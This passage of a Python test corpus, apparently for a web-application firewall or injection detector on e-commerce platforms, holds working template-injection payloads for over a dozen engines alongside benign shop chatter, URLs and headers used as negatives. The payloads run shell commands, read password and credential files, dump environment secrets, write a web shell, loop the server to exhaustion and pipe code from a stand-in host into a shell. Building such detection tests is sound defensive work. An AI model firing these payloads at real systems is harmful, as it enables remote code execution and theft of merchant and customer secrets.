    "#foreach($i in [1..999999999])#foreach($j in [1..999999999])$i#end#end",
    "#set($a=$customer.class.forName('java.lang.System'))$a.getenv()",
]

# thymeleaf. Target: Thymeleaf (Spring shops: Broadleaf, Shopizer) with a view name or fragment built from input
# (the ?lang=, sort or template parameter), preprocessing __${...}__ and inlined expressions.
THYMELEAF: list[Entry] = [
    "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x",
    "__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec(\"cat /etc/passwd\").getInputStream())"
    ".next()}__::.x",
    "[[${T(java.lang.Runtime).getRuntime().exec('curl http://198.51.100.7/th')}]]",
    "<p th:text=\"${T(java.lang.Runtime).getRuntime().exec('id')}\"></p>",
    "*{T(java.lang.Runtime).getRuntime().exec('id')}",
    "[(${T(java.lang.System).getenv()})]",
    "__|$${#response.addHeader(\"X-Cmd\",T(java.lang.Runtime).getRuntime().exec(\"id\"))}|__::.x",
    "~{::__${T(java.lang.Runtime).getRuntime().exec('whoami')}__}",
    "${#rt = @java.lang.Runtime@getRuntime(),#rt.exec(\"id\")}",
    "<div th:fragment=\"x\" th:utext=\"${T(org.springframework.util.StreamUtils).copyToString(T(java.lang.Runtime)"
    ".getRuntime().exec('id').getInputStream(),T(java.nio.charset.Charset).defaultCharset())}\"></div>",
]

# erb. Target: ERB in Solidus/Spree mailers and Rails Shopify apps that render a merchant-edited template.
ERB: list[Entry] = [
    "<%= system('id') %>",
    "<%= `cat /etc/passwd` %>",
    "<%= IO.popen('id').readlines() %>",
    "<%= File.open('/etc/passwd').read %>",
    "<%= Dir.entries('/') %>",
    "<%= require 'open3'; Open3.capture2('whoami') %>",
    "<%= Rails.application.secrets.secret_key_base %>",
    "<%= ENV['STRIPE_API_KEY'] %>",
    "<% %x(curl http://198.51.100.7/erb|sh) %>",
    "<%= Spree::Order.all.map(&:email).join(',') %>",
]

# smarty. Target: Smarty in PrestaShop themes and modules, CS-Cart and X-Cart: PHP functions, {php}, the
# Smarty_Internal_Write_File gadget and the {math} injection (CVE-2021-29454).
SMARTY: list[Entry] = [
    "{system('id')}",
    "{php}echo `id`;{/php}",
    "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['cmd']); ?>\",self::clearConfig())}",
    "{passthru(\"cat config/settings.inc.php\")}",
    "{if system('curl http://198.51.100.7/ps|sh')}{/if}",
    "{self::getStreamVariable(\"file:///etc/passwd\")}",
    "{math equation=\"(\\\"\\163\\171\\163\\164\\145\\155\\\")(\\\"\\151\\144\\\")\"}",
    "{fetch file='file:///var/www/prestashop/app/config/parameters.php'}",
    "{$smarty.version}{shell_exec('uname -a')}",
    "{include file='string:{system(\"id\")}'}",
]

# handlebars. Target: Handlebars on Node.js (BigCommerce Stencil-style storefront renderers, Ghost-like CMS shops,
# Express apps rendering an order template): the constructor-through-lookup gadget to Function and require.
HB_GADGET = ("{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}"
             "{{this.push (lookup string.sub \"constructor\")}}{{this.pop}}{{#with string.split as |codelist|}}"
             "{{this.pop}}{{this.push \"%s\"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}"
             "{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}")
HANDLEBARS: list[Entry] = [
    "{{#with \"s\" as |string|}}\n  {{#with \"e\"}}\n    {{#with split as |conslist|}}\n      {{this.pop}}\n"
    "      {{this.push (lookup string.sub \"constructor\")}}\n      {{this.pop}}\n"
    "      {{#with string.split as |codelist|}}\n        {{this.pop}}\n"
    "        {{this.push \"return require('child_process').execSync('id');\"}}\n        {{this.pop}}\n"
    "        {{#each conslist}}\n          {{#with (string.sub.apply 0 codelist)}}\n            {{this}}\n"
    "          {{/with}}\n        {{/each}}\n      {{/with}}\n    {{/with}}\n  {{/with}}\n{{/with}}",
    HB_GADGET % "return process.mainModule.require('child_process').execSync('cat /etc/passwd');",
    HB_GADGET % "return global.process.mainModule.constructor._load('child_process').execSync('whoami');",
    HB_GADGET % "return JSON.stringify(process.env);",
    HB_GADGET % "return require('child_process').exec('curl http://198.51.100.7/hb|sh');",
    HB_GADGET % "return process.mainModule.require('fs').readFileSync('/app/config/stencil.json','utf8');",
    "{{#with this as |o|}}{{#with (lookup (lookup o \"constructor\") \"constructor\") as |F|}}"
    "{{F \"return process\"}}{{/with}}{{/with}}",
    "{{lookup (lookup this \"constructor\") \"prototype\"}}",
    "{{#each (lookup this \"__proto__\")}}{{@key}}={{this}} {{/each}}",
]

# pug. Target: Pug/Jade on Express storefronts where the merchant edits a template or input reaches compile().
PUG: list[Entry] = [
    "#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad(\"child_process\")"
    ".exec('id')}()}",
    "- var x = global.process.mainModule.require('child_process').execSync('id')",
    "#{root.process.mainModule.require('child_process').spawnSync('cat',['/etc/passwd']).stdout}",
    "= global.process.mainModule.require('child_process').execSync('uname -a')",
    "p= global.process.env.STRIPE_SECRET_KEY",
    "- global.process.mainModule.require('child_process').exec('curl http://198.51.100.7/pug|sh')",
    "#{global.process.mainModule.require('fs').readFileSync('/app/.env')}",
    "div(class=global.process.mainModule.require('child_process').execSync('whoami').toString())",
    "!= global.process.mainModule.require('child_process').execSync('env')",
]

# mako. Target: Mako templates in Python shops (Pyramid/Pylons storefronts, custom invoice renderers).
MAKO: list[Entry] = [
    "${__import__('os').popen('id').read()}",
    "<% import os; x=os.popen('cat /etc/passwd').read() %>${x}",
    "${self.module.cache.util.os.system(\"id\")}",
    "<%! import subprocess %>${subprocess.check_output(['id'])}",
    "${self.template.module.runtime.util.os.popen('whoami').read()}",
    "<%\nimport os\nos.system('curl http://198.51.100.7/mako|sh')\n%>",
    "% for line in open('/etc/passwd'):\n${line}\n% endfor",
    "${__import__('subprocess').getoutput('env')}",
    "<%namespace file=\"/etc/passwd\" import=\"*\"/>",
]

# tornado. Target: Tornado templates of a Python checkout or order-status service.
TORNADO: list[Entry] = [
    "{% import os %}{{ os.popen('id').read() }}",
    "{{ __import__('os').system('id') }}",
    "{% raw __import__('os').popen('cat /etc/passwd').read() %}",
    "{{handler.settings}}",
    "{{handler.application.settings['cookie_secret']}}",
    "{% apply __import__('os').system %}id{% end %}",
    "{% import subprocess %}{{ subprocess.check_output('whoami', shell=True) }}",
    "{% set x = __import__('os').popen('env').read() %}{{ x }}",
    "{% extends '/etc/passwd' %}",
]

# nunjucks. Target: Nunjucks on Node.js (Express-rendered Shopify apps, Eleventy-built storefronts with a live
# preview): the Function constructor through range, cycler and joiner.
NUNJUCKS: list[Entry] = [
    "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
    "{{cycler.constructor(\"return process.mainModule.require('child_process').execSync('cat /etc/passwd')\")()}}",
    "{{joiner.constructor(\"return process.env\")()}}",
    "{{range.constructor(\"return require('child_process').exec('curl http://198.51.100.7/nj|sh')\")()}}",
    "{{\"\".constructor.constructor(\"return process.mainModule.require('fs').readFileSync('/app/.env')\")()}}",
    "{% set x = range.constructor(\"return process\")() %}{{ x.mainModule.require('child_process').execSync('id') }}",
    "{{lipsum.constructor(\"return global.process.mainModule.constructor._load('child_process')"
    ".execSync('whoami')\")()}}",
    "{% include '/etc/passwd' %}",
    "{{ range.constructor(\"while(true){}\")() }}",
]

# ejs. Target: EJS on Express storefronts: template text a merchant edits, and the view options Express passes
# from the request (CVE-2022-29078: settings[view options] from the query string).
EJS: list[Entry] = [
    "<%= global.process.mainModule.require('child_process').execSync('id') %>",
    "<%- include('/etc/passwd') %>",
    "<% process.mainModule.require('child_process').exec('curl http://198.51.100.7/ejs|sh') %>",
    "<%= process.env.STRIPE_SECRET_KEY %>",
    "<%= global.process.mainModule.require('fs').readFileSync('/app/.env') %>",
    "<%- global.process.mainModule.constructor._load('child_process').execSync('whoami') %>",
    ("settings[view%20options][outputFunctionName]=x;process.mainModule.require('child_process')"
     ".execSync('touch%20/tmp/ejs');s", *KV),
    ("settings[view%20options][client]=true&settings[view%20options][escapeFunction]=1;return%20global.process"
     ".mainModule.constructor._load('child_process').execSync('id');", *KF),
    ("settings[view%20options][localsName]=_%3Bprocess.mainModule.require('child_process').execSync('id')%3B//",
     *KV),
]

# pebble. Target: Pebble templates in Java shops (Spring Boot storefront plugins, merchant e-mail templates).
PEBBLE: list[Entry] = [
    "{% set cmd = 'id' %}{% set bytes = (1).TYPE.forName('java.lang.Runtime').methods[6].invoke(null,null)"
    ".exec(cmd).inputStream.readAllBytes() %}{{ (1).TYPE.forName('java.lang.String').constructors[0]"
    ".newInstance(([bytes]).toArray()) }}",
    "{{ variable.getClass().forName('java.lang.Runtime').getRuntime().exec('id') }}",
    "{{ (1).TYPE.forName('java.lang.Runtime').getRuntime().exec('curl http://198.51.100.7/peb') }}",
    "{{ product.getClass().getClassLoader().loadClass('java.lang.Runtime').getMethod('getRuntime')"
    ".invoke(null).exec('id') }}",
    "{% set rt = order.class.forName('java.lang.Runtime') %}{{ rt.getRuntime().exec('cat /etc/passwd') }}",
    "{{ beans.get(\"environment\").getProperty(\"spring.datasource.password\") }}",
    "{{ request.getServletContext().getClass().getClassLoader() }}",
    "{% include '/etc/passwd' %}{{ 'x' }}",
    "{{ (1).TYPE.forName('java.lang.System').getenv() }}",
]

# razor. Target: Razor (ASP.NET / .NET shops: nopCommerce, Smartstore and Umbraco plugins that compile a merchant's
# template with RazorEngine): .NET Process and File APIs.
RAZOR: list[Entry] = [
    "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami > C:\\\\inetpub\\\\wwwroot\\\\w.txt\")",
    "@{ System.Diagnostics.Process.Start(\"powershell\",\"-c iwr http://198.51.100.7/x.ps1|iex\"); }",
    "@System.IO.File.ReadAllText(\"C:\\\\inetpub\\\\nopCommerce\\\\App_Data\\\\appsettings.json\")",
    "@System.Environment.GetEnvironmentVariable(\"ConnectionStrings__DefaultConnection\")",
    "@{var p=new System.Diagnostics.Process();p.StartInfo.FileName=\"cmd.exe\";p.StartInfo.Arguments=\"/c ipconfig\";"
    "p.StartInfo.RedirectStandardOutput=true;p.StartInfo.UseShellExecute=false;p.Start();}"
    "@p.StandardOutput.ReadToEnd()",
    "@Html.Raw(System.IO.File.ReadAllText(@\"C:\\Windows\\win.ini\"))",
    "@System.IO.Directory.GetFiles(\"C:\\\\\")",
    "@(System.Diagnostics.Process.Start(\"/bin/sh\",\"-c id\").WaitForExit())",
    "@System.Environment.GetEnvironmentVariables()",
]

# go-templates. Target: Go text/template and html/template in Go storefront services and Hugo-built shops: the
# data object's methods and fields, Sprig/Hugo functions that read files and the environment, template redefinition.
GO_TPL: list[Entry] = [
    "{{ .Config.StripeSecretKey }}",
    "{{ range $k, $v := .Env }}{{ $k }}={{ $v }} {{ end }}",
    "{{ env \"AWS_SECRET_ACCESS_KEY\" }}",
    "{{ expandenv \"$DATABASE_URL\" }}",
    "{{ readFile \"/etc/passwd\" }}",
    "{{ os.ReadFile \"/etc/passwd\" }}",
    "{{ getenv \"SHOPIFY_API_SECRET\" }}",
    "{{define \"T1\"}}<script>alert(document.domain)</script>{{end}}{{template \"T1\"}}",
    "{{ .Customer.PasswordHash }}",
    "{{ .System \"id\" }}",
    "{{ printf \"%#v\" . }}",
]

# liquid. Target: Liquid engines outside Shopify's sandbox (Jekyll, LiquidJS in Node storefront builders, DotLiquid
# in Smartstore): file inclusion through include/render/layout, data exposure, loop exhaustion.
LIQUID: list[Entry] = [
    "{% include '../../../../../etc/passwd' %}",
    "{% render '/etc/passwd' %}",
    "{% layout '../../../config/settings.yml' %}",
    "{% include_relative ../../../../etc/passwd %}",
    "{% for i in (1..999999999) %}{% for j in (1..999999999) %}{{ i }}{% endfor %}{% endfor %}",
    "{{ site.data | jsonify }}{{ site.github.api_token }}",
    "{% assign s = 'x' %}{% for i in (1..30) %}{% assign s = s | append: s %}{% endfor %}{{ s }}",
    "{% include {{ page.path | prepend: '../../../../' }} %}",
    "{{ 'x' | constructor | constructor: 'return process' }}",
]

FAMILIES: list[tuple[str, str, list[Entry]]] = [
    ("generic", "nodejs-injection", NODE),
    ("generic", "nodejs-dos", NODE_DOS),
    ("generic", "ssrf-cloud-metadata", METADATA),
    ("generic", "ssrf-internal-ip", INTERNAL),
    ("generic", "javascript-prototype-pollution", PROTO),
    ("generic", "ruby-injection", RUBY),
    ("generic", "perl-injection", PERL),
    ("generic", "php-data-scheme", PHP_DATA),
    ("java", "java-class-names", JAVA_CLASSES),
    ("java", "java-process-spawn", JAVA_SPAWN),
    ("java", "java-serialization", JAVA_SER),
    ("java", "java-deserialization-gadgets", GADGETS),
    ("java", "log4shell", LOG4J),
    ("java", "expression-language", EL),
    ("java", "java-polymorphic-deserialization", POLY),
    ("java", "java-class-loading", LOADING),
    ("java", "jsp-upload", JSP),
    ("ssti", "jinja2", JINJA2),
    ("ssti", "twig", TWIG),
    ("ssti", "freemarker", FREEMARKER),
    ("ssti", "velocity", VELOCITY),
    ("ssti", "thymeleaf", THYMELEAF),
    ("ssti", "erb", ERB),
    ("ssti", "smarty", SMARTY),
    ("ssti", "handlebars", HANDLEBARS),
    ("ssti", "pug", PUG),
    ("ssti", "mako", MAKO),
    ("ssti", "tornado", TORNADO),
    ("ssti", "nunjucks", NUNJUCKS),
    ("ssti", "ejs", EJS),
    ("ssti", "pebble", PEBBLE),
    ("ssti", "razor", RAZOR),
    ("ssti", "go-templates", GO_TPL),
    ("ssti", "liquid", LIQUID),
]

# the parameter names each family's payloads take on our routes: the platform's own fields
NAMES: dict[str, list[str]] = {
    "nodejs-injection": ["discount_formula", "sort", "rule", "shipping_script", "expression", "cart", "filter"],
    "nodejs-dos": ["q", "search", "sku", "coupon_code", "email", "price_rule", "filter"],
    "ssrf-cloud-metadata": ["image_url", "feed_url", "notify_url", "TermUrl", "webhook_url", "logo_url",
                            "invoice_note"],
    "ssrf-internal-ip": ["feed_url", "image_url", "callback_url", "import_url", "webhook_url", "return_url"],
    "javascript-prototype-pollution": ["cart", "settings", "address", "filters"],
    "ruby-injection": ["calculator_formula", "feed_url", "sort", "promotion_rule", "calculator_type", "products_yml"],
    "perl-injection": ["page", "template", "total", "item", "product", "mv_nextpage"],
    "php-data-scheme": ["template", "tpl", "controller", "route", "view", "page", "lang"],
    "java-class-names": ["script", "impex", "expression", "sortBy", "condition"],
    "java-process-spawn": ["groovyProgram", "script", "command", "expression", "rule"],
    "java-serialization": ["javax.faces.ViewState", "cart", "session", "basket", "state"],
    "java-deserialization-gadgets": ["order", "payload", "state", "data", "basket"],
    "log4shell": ["coupon_code", "q", "merchantReference", "orderId", "giftcard", "utm_source", "email"],
    "expression-language": ["sort", "q", "redirect", "condition", "locale", "productName"],
    "java-polymorphic-deserialization": ["feed", "order", "payload"],
    "java-class-loading": ["expression", "script", "config", "rule"],
    "jsp-upload": ["template", "label_template", "content", "invoice_template"],
}
SSTI_NAMES = ["template", "email_template", "subject", "review_text", "product_description", "gift_message",
              "order_note", "name"]


# ----------------------------------------------------------------------------------------------------------------
# Placements
class _Set(BlindSet):
    prefix = NAME
    families = FAMILIES
    names = SSTI_NAMES
    documents = True   # XStream, XMLDecoder, SOAP and XML-RPC documents go as the whole XML body
    kv_safe = "=&[]._-:/'*$!(),;{}~@%"   # a raw pair is written already percent-encoded where it needs to be
    raw_places = ("query", "form", "param-name", "rs-query", "rs-param-name")
    upload = JSP_SHELL   # an upload named *.jsp carries a JSP command shell
    unique = True
    path_forbids = "/?#"

    def name(self, category: str, sub: str, k: int) -> str:
        names = NAMES.get(sub, SSTI_NAMES)
        return names[k % len(names)]

    def is_latin(self, sub: str, payload: str) -> bool:
        """Raw serialized Java (bytes held as latin-1 text)."""
        return any(ch < " " and ch not in "\n\t" or "\x7f" <= ch <= "\xff" for ch in payload)

    def is_raw(self, sub: str, payload: str, fixed: bool) -> bool:
        """A fixed `name=value` entry (not a JSON or XML document, not raw bytes) goes as it is written."""
        return (fixed and "=" in payload and not payload.startswith(("{", "[", "<"))
                and not self.is_latin(sub, payload))


SET = _Set()


def attacks() -> Iterator[dict[str, Any]]:
    return SET.attacks()


# ----------------------------------------------------------------------------------------------------------------
# Benign: the same words and syntax, typed innocently by shop managers, support agents and developers (Slack
# chat and bios about orders, coupons, feeds, price rules, checkout errors and plugin updates; searches for
# colleagues by store and team; links to shop and provider dashboards; quoted errors; feed, invoice and label files)
CHAT = [
    # shop managers and support
    "order #100004211 shows paid in Stripe but still Pending in Magento, can someone check the IPN log?",
    "coupon SUMMER24 isn't stacking with FREESHIP, is that the new price rule or a bug?",
    "customer says the gift card GC-7F3K-22QP-91XD was applied twice, refunded one of them manually",
    "heads up: Black Friday price rule goes live at 00:00 CET, 30% off everything in category 'outerwear'",
    "WooCommerce 8.9 update broke the checkout block on staging, rolling back the plugin for now",
    "who owns the Google Shopping feed? 214 SKUs were disapproved for missing GTIN",
    "the DHL label for order 100004198 came out blank again, reprinting from the shipping module",
    "PrestaShop module 'ps_facetedsearch' needs a reindex after the colour attribute rename",
    "can we move the 'Write a review' button above the Q&A on the product page? designers asked",
    "returns form: customers keep pasting the tracking number into the order id field",
    "Shopware says 'Invalid sw-context-token' after login on Safari only, anyone seen this?",
    "the BigCommerce app uninstall webhook fires twice, make the handler idempotent please",
    "refund for order 2024-08812 is stuck at 'processing' on Adyen's side, opened a ticket",
    "3-D Secure challenge loops back to the cart for some Revolut cards, TermUrl looks right though",
    "OpenCart's route=checkout/confirm is 500ing, error log says undefined index 'payment_method'",
    "reminder: coupon codes are case-insensitive on our side but Shopify treats them as uppercase",
    "the marketplace import rejected the CSV because of a BOM at the start, re-exported as UTF-8 without BOM",
    "Amazon feed error 8560: SKU WIDGET-BLU-XL missing required attribute 'item_type_keyword'",
    "PayPal IPN came in with payment_status=Refunded for 5XJ12345AB678901C, matches the dispute",
    "gift message on order 100004250 has an emoji the packing slip printer can't render",
    # developers pasting snippets
    "in the Liquid theme it's {% if cart.item_count > 0 %} not {% if cart.items.size %}, that's why it's empty",
    "use {{ product.title | escape }} in the meta tags, raw titles with quotes broke the og:title",
    "Shopware mail template: {{ order.orderNumber }} works, {{ order.number }} renders empty",
    "Smarty in the PrestaShop theme: {$product.name|escape:'html':'UTF-8'} is the safe way",
    "the Twig block for the invoice footer is {% block document_footer %}, override it in the child theme",
    "BigCommerce Stencil: {{#if customer}}Hi {{customer.name}}{{/if}} in the header partial",
    "Handlebars helper {{#each products}}{{name}}{{/each}} is fine, don't register a raw html helper",
    "ERB in the Solidus mailer: <%= @order.number %> and <%= link_to 'Track', @shipment.tracking_url %>",
    "the Thymeleaf fragment is th:text=\"${order.total}\", the cart page still uses the old JSP tag",
    "Jinja in the abandoned-cart email: {{ customer.first_name|default('there') }}, works in preview",
    "Go template for the packing slip: {{ range .Items }}{{ .SKU }} x{{ .Qty }}{{ end }}",
    "FreeMarker in OFBiz: ${orderHeader.orderId} prints fine, but ${orderHeader.grandTotal?string.currency} "
    "needs the locale",
    "Velocity in Hybris emails: $ctx.order.code, don't forget the ctx prefix",
    "EJS partial: <%= order.id %> escaped, <%- %> only for the trusted footer HTML",
    "Razor in nopCommerce: @Model.CustomOrderNumber on the invoice, @T(\"Order.Shipments\") for labels",
    "Pug mixin for the price: +price(product.price) and the currency is a locals var",
    "webhook JSON we get: {\"id\": 820982911946154508, \"topic\": \"orders/create\", \"total_price\": \"49.90\"}",
    "the Stripe event is {\"type\":\"payment_intent.succeeded\",\"data\":{\"object\":{\"id\":\"pi_3Pabc\"}}}, we key "
    "on data.object.id",
    "feed row that fails: SKU;name;price;stock\\nTEE-001;Basic Tee;19.90;12 - the price has a comma in DE locale",
    "in the Express app we do require('./lib/prices') once, not per request, the cold start was awful",
    "process.env.STRIPE_SECRET_KEY is undefined on the preview deploy, did someone forget the Vercel env var?",
    "we removed eval() from the old shipping-rate calculator, formulas are parsed with mathjs now",
    "lodash merge was letting __proto__ through in the cart settings, bumped lodash and added a key filter",
    "the product search regex was (a+)+ shaped, swapped it for a plain includes() to avoid ReDoS",
    "qs arrayLimit is 20 by default, that's why items[21] turned into an object in the cart API",
    "Log4j is 2.17.1 on the Hybris nodes now; the scanner still flags ${jndi:...} in old logs, ignore those",
    "Spring Boot actuator is locked down on the checkout service, /actuator/health only",
    "IMDSv2 is enforced on the shop EC2 instances, 169.254.169.254 needs a token now, hop limit 1",
    "the feed importer only allows https:// URLs now, file:// and internal hosts are rejected",
    "Elasticsearch for Magento runs on localhost:9200, don't expose it in the security group again",
    "Redis on 127.0.0.1:6379 holds sessions and full page cache, flushing it logs everyone out",
    "Java side: ProcessBuilder is only used by the label printer bridge, nothing user facing",
    "the OFBiz upgrade to 18.12.14 closes the groovy ProgramExport hole, please schedule it",
    "JSF ViewState is encrypted on the ATG storefront, the pentest note about rO0AB was from the old build",
    "Jackson default typing is off in the order service, we use @JsonTypeInfo with an allowlist",
    "the Ruby promotion calculator no longer does instance_eval, it's a tiny DSL now",
    "YAML.safe_load for the product import, YAML.load is gone since Psych 4 anyway",
    "the Perl cart from 2009 still runs on the wholesale site, cart.cgi?item=... nobody dares touch it",
    "data: URLs for the tiny SVG icons in the checkout CSS are fine, CSP allows img-src data:",
    "the Next.js storefront: getServerSideProps fetches the product by handle, no client-side secret",
    "printf(\"%s\", ...) in the Go label service truncated the address, switched to fmt.Sprintf with width",
    "PDF invoices are rendered with wkhtmltopdf, remote images are disabled so logos come from base64",
    # bios
    "Head of E-commerce at Northwind Outfitters. Magento since 1.9, now Adobe Commerce and Hyvä.",
    "Support lead, Shopify Plus store. Coupons, refunds, the occasional chargeback. Ask me about order #s.",
    "Backend dev on checkout and payments (Adyen, Stripe, PayPal IPN). Node.js, TypeScript, some Java.",
    "Catalog manager: product feeds for Google Shopping, Amazon and Zalando. CSV whisperer.",
    "PrestaShop and WooCommerce freelancer, Smarty and Twig themes, module updates, speed fixes.",
    "SAP Commerce (Hybris) developer: ImpEx, Velocity email templates, Solr facets, Spring.",
    "Ops for the shop platform: EC2, RDS, Redis, Elasticsearch, Varnish. On call every 4th week.",
    "Frontend for our headless storefront (Next.js + BigCommerce). Handlebars refugee.",
    "Warehouse & shipping: DHL, UPS and GLS labels, packing slips, returns portal.",
    "Payments analyst. 3-D Secure, SCA exemptions, fraud rules, reconciliation with the ERP.",
]

SEARCHES = [
    "Northwind Outfitters", "checkout team", "payments", "ERP integration", "Magento", "WooCommerce",
    "PrestaShop", "Shopware", "Shopify Plus", "BigCommerce", "catalog", "feed manager", "customer support EU",
    "warehouse Berlin", "fulfilment", "returns", "Adyen", "Stripe", "PayPal", "Klarna", "Hybris", "OFBiz",
    "storefront", "headless", "pricing", "promotions", "coupons", "gift cards", "marketplace", "Amazon sellers",
    "O'Brien", "Zoë", "Nuñez", "Lars Østergaard", "smith@northwind", "Jürgen", "José María", "ops on call",
    "Ruby team", "Java team",
]

URLS = [
    "https://admin.shopify.com/store/northwind-outfitters/orders/5678901234",
    "https://dashboard.stripe.com/payments/pi_3PabcDEF12345678",
    "https://ca-live.adyen.com/ca/ca/payments/details.shtml?pspReference=8815123456789012",
    "https://www.paypal.com/activity/payment/5XJ12345AB678901C",
    "https://shop.northwind.example/admin_1a2b3c/sales/order/view/order_id/4211/",
    "https://shop.northwind.example/wp-admin/post.php?post=8812&action=edit",
    "https://store-abc123.mybigcommerce.com/manage/orders/1042",
    "https://merchants.google.com/mc/products/diagnostics?a=123456789",
    "https://sellercentral.amazon.de/inventory?tbla_myitable=sort:%7B%22sortOrder%22%3A%22DESCENDING%22%7D",
    "https://docs.shopify.com/api/admin-rest/2024-07/resources/webhook",
    "https://developer.adobe.com/commerce/webapi/rest/use-rest/performing-searches/",
    "https://woocommerce.com/document/woocommerce-rest-api/",
    "https://devdocs.prestashop-project.org/8/themes/getting-started/smarty/",
    "https://developer.shopware.com/docs/guides/plugins/plugins/content/mail/",
    "https://shopify.dev/docs/api/liquid/objects/cart",
    "https://developer.bigcommerce.com/docs/storefront/stencil/themes/context/object-reference",
    "https://logging.apache.org/log4j/2.x/security.html",
    "https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/configuring-instance-metadata-service.html",
    "https://www.dhl.de/en/geschaeftskunden/paket/versenden/tracking.html?piececode=00340434161234567890",
    "https://shop.northwind.example/checkout/cart/?coupon_code=SUMMER24",
]

PROSE = [
    "order 100004211 paid but pending",
    "coupon SUMMER24 not applying to sale items",
    "gift card balance wrong after partial refund",
    "3DS TermUrl redirect loop on mobile",
    "PayPal IPN notify_url changed after migration",
    "feed import failed: invalid XML at line 1, column 1",
    "Google Shopping feed disapproved GTIN",
    "price rule 'Black Friday 30%' priority",
    "label printer bridge ProcessBuilder timeout",
    "Log4j 2.17.1 upgrade Hybris nodes",
    "lodash merge __proto__ filter in cart settings",
    "ReDoS in product search regex",
    "Liquid {% if cart.item_count > 0 %} empty cart banner",
    "Twig {% block document_footer %} override",
    "Smarty {$product.name} escaping",
    "Handlebars {{#each products}} partial",
    "ERB <%= @order.number %> in mailer",
    "Velocity $ctx.order.code in Hybris email",
    "FreeMarker ${orderHeader.orderId} OFBiz",
    "Thymeleaf th:text order total",
    "Jinja {{ customer.first_name }} default",
    "EJS <%= order.id %> partial",
    "Razor @Model.CustomOrderNumber invoice",
    "webhook orders/create retried twice",
    "Elasticsearch localhost:9200 reindex Magento",
    "IMDSv2 169.254.169.254 hop limit",
    "Redis 127.0.0.1:6379 full page cache flush",
    "JSF ViewState encrypted ATG",
    "YAML.safe_load product import",
    "cart.cgi wholesale site Perl",
]

PROFILES = [
    ("Maren Holt", "Lagerstraße 12, 10115 Berlin, DE"),
    ("Tomás O'Neill", "Unit 4, Ballymount Industrial Estate, Dublin 12, IE"),
    ("Priya Raman", "221B Baker Street, London NW1 6XE, UK"),
    ("Jürgen Weiß", "Königsallee 60, 40212 Düsseldorf, DE"),
    ("Ana Lúcia Ferreira", "Rua Augusta 1508, São Paulo - SP, 01304-001, BR"),
    ("Chloé Martin", "12 rue de la Paix, 75002 Paris, FR"),
    ("Kenji Watanabe", "1-1-2 Oshiage, Sumida-ku, Tokyo 131-0045, JP"),
    ("Lars Østergaard", "Vesterbrogade 3, 1620 København V, DK"),
    ("Fatima Zahra El Idrissi", "Boulevard Zerktouni 98, Casablanca, MA"),
    ("Sam Taylor (Warehouse)", "Dock 3, 4400 Logistics Way, Memphis, TN 38118, US"),
    ("Northwind Outfitters Returns", "Returns Dept., PO Box 4211, Leeds LS1 1AA, UK"),
    ("Olga Nowak", "ul. Marszałkowska 84/92, 00-514 Warszawa, PL"),
    ("José María Nuñez", "Calle de Alcalá 45, 28014 Madrid, ES"),
    ("Ruth Abernathy", "Apt 5C, 301 W 57th St, New York, NY 10019, US"),
    ("Zoë van der Berg", "Prinsengracht 263, 1016 GV Amsterdam, NL"),
]

UPLOAD_NAMES = [
    "invoice_2024-004211.pdf",
    "credit_note_CN-2024-0093.pdf",
    "label_DHL_00340434161234567890.pdf",
    "ups_label_1Z999AA10123456784.zpl",
    "packing_slip_100004198.pdf",
    "google_shopping_feed_2024-08-01.xml",
    "amazon_inventory_loader_DE.txt",
    "zalando_articles_export.csv",
    "products_export_1.csv",
    "catalog_price_rules_Q4.xlsx",
    "coupon_codes_SUMMER24_batch2.csv",
    "gift_cards_issued_july.csv",
    "orders_2024-07_reconciliation.xlsx",
    "stripe_payouts_po_1PXYZ.csv",
    "paypal_settlement_report_20240801.csv",
    "adyen_settlement_detail_report_batch_318.csv",
    "product-image TEE-001 front.jpg",
    "hero_banner_black-friday@2x.png",
    "size_chart_outerwear.pdf",
    "return_label_RMA-55871.pdf",
    "shopware_mail_template_order_confirmation.twig",
    "prestashop_theme_product.tpl",
    "stencil_theme_northwind_v3.zip",
    "erp_sync_mapping.yml",
    "webhook_payload_orders_create.json",
]

BENIGN_HEADERS = [
    ("User-Agent", "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                   "Version/17.5 Safari/605.1.15"),
    ("User-Agent", "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                   "Mobile/15E148 Instagram 338.0.0.0"),
    ("User-Agent", "Shopify-Captain-Hook"),
    ("User-Agent", "WooCommerce/8.9.3 Hookshot (WordPress/6.5.5)"),
    ("User-Agent", "Stripe/1.0 (+https://stripe.com/docs/webhooks)"),
    ("User-Agent", "PayPal IPN ( https://www.paypal.com/ipn )"),
    ("User-Agent", "Adyen HttpClient 1.0"),
    ("User-Agent", "Googlebot/2.1 (+http://www.google.com/bot.html)"),
    ("User-Agent", "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)"),
    ("User-Agent", "Apache-HttpClient/4.5.14 (Java/17.0.11)"),
    ("Referer", "https://shop.northwind.example/checkout/onepage/"),
    ("Referer", "https://admin.shopify.com/store/northwind-outfitters/discounts"),
    ("Referer", "https://shop.northwind.example/catalogsearch/result/?q=rain+jacket&color=blue"),
    ("Referer", "https://www.google.com/search?q=northwind+outfitters+coupon+code"),
    ("X-Shopify-Topic", "orders/create"),
    ("X-Shopify-Shop-Domain", "northwind-outfitters.myshopify.com"),
    ("X-WC-Webhook-Topic", "order.updated"),
    ("Stripe-Signature", "t=1719000000,v1=5257a869e7ecebeda32affa62cdca3fa51cad7e77a0e56ff536d0ce8e108d8bd"),
    ("Cookie", "session=abc123; cart_id=8f2c1d; currency=EUR; store=de_DE"),
    ("Accept-Language", "de-DE,de;q=0.9,en;q=0.8"),
    ("X-Forwarded-For", "203.0.113.42"),
]


def benign() -> Iterator[dict[str, Any]]:
